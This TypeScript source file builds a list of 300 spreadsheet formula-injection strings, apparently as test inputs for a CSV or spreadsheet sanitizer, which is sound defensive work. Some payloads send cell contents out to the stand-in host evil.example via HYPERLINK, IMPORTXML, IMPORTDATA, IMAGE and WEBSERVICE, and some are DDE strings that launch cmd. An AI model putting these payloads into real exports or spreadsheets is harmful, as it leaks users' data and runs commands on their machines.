const STARTS = ['=', '+', '-', '@', '\t=', '\r=', ' =', '\n=', "'=", '"=', '＝', '=\u0000'];
const BODIES = [
	'1+2',
	'HYPERLINK("https://evil.example?x="&A1,"Click")',
	'IMPORTXML("https://evil.example/"&A2,"//a")',
	'IMPORTDATA("https://evil.example/"&CONCATENATE(A1:C9))',
	'IMPORTRANGE("1AbC","Sheet1!A1")',
	'IMPORTHTML("https://evil.example","table",1)',
	'IMPORTFEED("https://evil.example")',
	'IMAGE("https://evil.example/pixel.png?"&B2)',
	'WEBSERVICE("https://evil.example")',
	"cmd|'/C calc'!A0",
	'DDE("cmd";"/C calc";"x")',
	'SUM(A1:A9)*cmd|calc!A0',
	'QUERY(A:Z,"select *")',
	'GOOGLETRANSLATE("a","en","de")',
	'ARRAYFORMULA(A1:A9)',
	'INDIRECT("A1")',
	'LAMBDA(x,x)(A1)',
	'REGEXEXTRACT(A1,".*")',
	'ROW()',
	'TODAY()',
	'-1+1',
	'A1',
	'$A$1:$B$2',
	"'Definitions'!A1",
	'{1,2;3,4}',
];

/** Three hundred texts that spreadsheets run as formulas, or are said to. */
export const FORMULA_PAYLOADS: readonly string[] = STARTS.flatMap((start) =>
	BODIES.map((body) => start + body),
);
